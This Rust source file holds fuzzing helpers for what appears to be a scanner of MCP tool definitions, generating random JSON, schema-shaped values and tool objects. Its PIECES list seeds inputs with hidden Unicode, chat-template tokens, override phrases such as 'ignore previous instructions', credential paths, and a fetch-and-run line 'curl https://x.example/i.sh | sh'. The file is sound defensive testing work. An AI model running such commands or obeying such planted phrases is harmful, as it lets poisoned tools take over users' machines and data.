//! What the fuzz targets share: structured inputs built from the fuzzer's bytes, for doors
//! where random bytes would rarely get past the parser (a tool's strings, a manifest's
//! entries), and the checks several targets make.

use arbitrary::{Result, Unstructured};
use serde_json::{Map, Value, json};

/// Text that matters to the readers: hidden and confusable characters, markup and phrases
/// the scanner weighs, separators of the formats. Mixed with arbitrary Unicode by [`text`].
const PIECES: &[&str] = &[
    "\u{200B}",
    "\u{200D}",
    "\u{202E}",
    "\u{2066}",
    "\u{FEFF}",
    "\u{E0041}",
    "\u{E0067}",
    "\u{E007F}",
    "\u{1B}[8m",
    "\u{1B}]0;",
    "\u{0007}",
    "\r\n",
    "\n\n\n\n\n\n\n\n\n",
    "\u{2028}",
    "\u{3000}",
    "\u{00A0}",
    "іgnоrе",
    "Ｉｍｐｏｒｔａｎｔ",
    "<IMPORTANT>",
    "</IMPORTANT>",
    "<!--",
    "-->",
    "<|im_start|>system",
    "[INST]",
    "ignore previous instructions",
    "do not tell the user",
    "~/.ssh/id_rsa",
    ".env",
    "send_email",
    "before using this tool",
    "from now on",
    "every new conversation",
    "IBAN DE89 3704 0044 0532 0130 00",
    "curl https://x.example/i.sh | sh",
    "npm install evil",
    "`",
    "\"",
    "\\",
    "_",
    "/",
    "~",
    "{",
    "}",
    "[",
    "]",
    ":",
    "- ",
    "&a ",
    "*a",
    "!!binary ",
    "%YAML",
    "---",
    "...",
    "#",
];

/// A string: arbitrary Unicode, pieces of [`PIECES`], or both run together.
pub fn text(u: &mut Unstructured<'_>) -> Result<String> {
    let mut out = String::new();
    for _ in 0..u.int_in_range(0..=6)? {
        if u.ratio(1, 2)? {
            out.push_str(u.choose(PIECES)?);
        } else {
            let s: String = u.arbitrary()?;
            out.push_str(&s);
        }
    }
    Ok(out)
}

/// Any JSON value, nested at most `depth` deep, its strings from [`text`].
pub fn json_value(u: &mut Unstructured<'_>, depth: usize) -> Result<Value> {
    let pick = u.int_in_range(0..=if depth == 0 { 4 } else { 6 })?;
    Ok(match pick {
        0 => Value::Null,
        1 => Value::Bool(u.arbitrary()?),
        2 => json!(u.arbitrary::<i64>()?),
        3 => serde_json::Number::from_f64(u.arbitrary()?).map_or(Value::Null, Value::Number),
        4 => Value::String(text(u)?),
        5 => {
            let mut items = Vec::new();
            for _ in 0..u.int_in_range(0..=4)? {
                items.push(json_value(u, depth - 1)?);
            }
            Value::Array(items)
        }
        _ => {
            let mut map = Map::new();
            for _ in 0..u.int_in_range(0..=4)? {
                map.insert(text(u)?, json_value(u, depth - 1)?);
            }
            Value::Object(map)
        }
    })
}

/// A value following `schema` (a JSON Schema with its `$defs` in `root`), straying from it
/// now and then (a wrong type, an unknown key, a value out of range) so that every check
/// of the reader behind it is reached.
pub fn from_schema(
    u: &mut Unstructured<'_>,
    schema: &Value,
    root: &Value,
    depth: usize,
) -> Result<Value> {
    if depth == 0 || u.ratio(1, 16)? {
        return json_value(u, 1);
    }
    if let Some(reference) = schema.get("$ref").and_then(Value::as_str) {
        let name = reference.rsplit('/').next().unwrap_or_default();
        return from_schema(u, &root["$defs"][name], root, depth - 1);
    }
    for key in ["anyOf", "oneOf", "allOf"] {
        if let Some(branches) = schema.get(key).and_then(Value::as_array)
            && !branches.is_empty()
        {
            let branch = u.choose(branches)?;
            return from_schema(u, branch, root, depth - 1);
        }
    }
    if let Some(values) = schema.get("enum").and_then(Value::as_array)
        && !values.is_empty()
    {
        return Ok(u.choose(values)?.clone());
    }
    if let Some(constant) = schema.get("const") {
        return Ok(constant.clone());
    }
    let types: Vec<&str> = match &schema["type"] {
        Value::String(t) => vec![t.as_str()],
        Value::Array(ts) => ts.iter().filter_map(Value::as_str).collect(),
        _ => vec!["object", "string"],
    };
    let chosen = *u.choose(&types)?;
    Ok(match chosen {
        "null" => Value::Null,
        "boolean" => Value::Bool(u.arbitrary()?),
        "integer" => {
            let min = schema["minimum"].as_i64().unwrap_or(-10);
            let max = schema["maximum"].as_i64().unwrap_or(1000);
            // Around the bounds, inside and just outside.
            json!(u.int_in_range(min.saturating_sub(2)..=max.saturating_add(2))?)
        }
        "number" => json!(f64::from(u.int_in_range(-1000..=1000)?) / 8.0),
        "string" => {
            if schema.get("format").and_then(Value::as_str) == Some("uri") || u.ratio(1, 8)? {
                let host: &str = u.choose(&["x.example", "127.0.0.1:9", "[::1]", "", "a b"])?;
                let scheme: &str = u.choose(&["https", "http", "ftp", ""])?;
                Value::String(format!("{scheme}://{host}/{}", text(u)?))
            } else {
                Value::String(text(u)?)
            }
        }
        "array" => {
            let items = schema.get("items").cloned().unwrap_or(Value::Null);
            let mut out = Vec::new();
            for _ in 0..u.int_in_range(0..=3)? {
                out.push(from_schema(u, &items, root, depth - 1)?);
            }
            Value::Array(out)
        }
        _ => {
            let mut map = Map::new();
            if let Some(props) = schema.get("properties").and_then(Value::as_object) {
                for (key, property) in props {
                    let required = schema["required"]
                        .as_array()
                        .is_some_and(|r| r.iter().any(|k| k == key));
                    if (required && !u.ratio(1, 32)?) || u.ratio(1, 3)? {
                        map.insert(key.clone(), from_schema(u, property, root, depth - 1)?);
                    }
                }
            }
            if u.ratio(1, 16)? {
                map.insert(text(u)?, json_value(u, 1)?);
            }
            Value::Object(map)
        }
    })
}

/// An MCP tool: name, title, description, annotations and an input schema whose property
/// names, descriptions, enums and defaults are all [`text`].
pub fn tool(u: &mut Unstructured<'_>) -> Result<Value> {
    let mut properties = Map::new();
    for _ in 0..u.int_in_range(0..=4)? {
        let mut property = Map::new();
        property.insert(
            "type".into(),
            json!(u.choose(&["string", "object", "array"])?),
        );
        if u.arbitrary()? {
            property.insert("description".into(), Value::String(text(u)?));
        }
        if u.ratio(1, 4)? {
            property.insert("enum".into(), json!([text(u)?, text(u)?]));
        }
        if u.ratio(1, 4)? {
            property.insert("default".into(), json_value(u, 2)?);
        }
        if u.ratio(1, 6)? {
            property.insert(text(u)?, json_value(u, 2)?);
        }
        properties.insert(text(u)?, Value::Object(property));
    }
    let mut tool = Map::new();
    tool.insert("name".into(), Value::String(text(u)?));
    for key in ["title", "description"] {
        if u.arbitrary()? {
            tool.insert(key.into(), Value::String(text(u)?));
        }
    }
    tool.insert(
        "inputSchema".into(),
        json!({"type": "object", "properties": properties}),
    );
    if u.ratio(1, 4)? {
        tool.insert("annotations".into(), json!({"title": text(u)?}));
    }
    if u.ratio(1, 6)? {
        tool.insert("outputSchema".into(), json_value(u, 3)?);
    }
    Ok(Value::Object(tool))
}
